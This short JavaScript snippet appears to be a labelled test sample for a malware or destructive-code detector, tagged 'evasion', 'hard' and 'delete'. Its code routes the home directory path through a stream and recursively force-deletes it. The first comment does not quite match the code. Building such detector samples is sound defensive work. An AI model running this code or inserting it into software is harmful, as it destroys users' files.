// evasion: a Readable.from stream of the home directory; the 'data' chunk's toString() is removed
// grade: hard; does: delete
const stream = require("stream");
const fs = require("fs");
const os = require("os");
const src = stream.Readable.from([os.homedir()]);
src.on("data", (buf) => fs.rmSync(buf.toString(), { recursive: true, force: true }));
